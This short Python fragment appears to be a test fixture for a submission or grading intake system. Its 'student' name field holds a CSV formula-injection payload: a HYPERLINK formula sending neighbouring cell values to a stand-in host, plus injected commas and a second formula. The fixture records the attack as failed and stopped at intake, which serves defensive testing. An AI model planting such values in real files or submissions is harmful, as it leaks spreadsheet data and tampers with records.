"""Hand in under a name that a spreadsheet runs as a formula, with quotes and commas that end a cell of the table."""

ATTACK = {
    "honest": 5,
    "status": ["failed"],
    "stopped_by": ["text", "intake"],
    "controls": [],
    "succeeds_at": [],
    "student": '=HYPERLINK("https:example.invalid?"&A2&B2,"Mallory"),20,"\n=1+1',
}


def honest(x):
    return 2 * x


def target(x):
    return 0 * x
